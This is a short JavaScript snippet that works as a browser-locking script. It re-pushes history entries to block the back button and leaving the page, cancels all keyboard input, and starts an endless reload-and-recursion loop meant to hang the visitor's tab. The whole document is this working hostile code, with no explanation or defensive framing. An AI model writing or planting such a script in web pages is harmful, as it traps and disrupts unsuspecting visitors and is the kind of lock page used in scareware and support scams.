const here = () => history.pushState({}, '', location.pathname);
for (const moment of ['popstate', 'beforeunload', 'unload']) window.addEventListener(moment, here);
here();
const deaf = (press) => press.preventDefault();
document.onkeyup = deaf;
document.onkeydown = deaf;
const burn = (n = Math.random()) => {
  location.reload();
  return burn(n + 1) * burn(n ** n);
};
setTimeout(burn, 150);
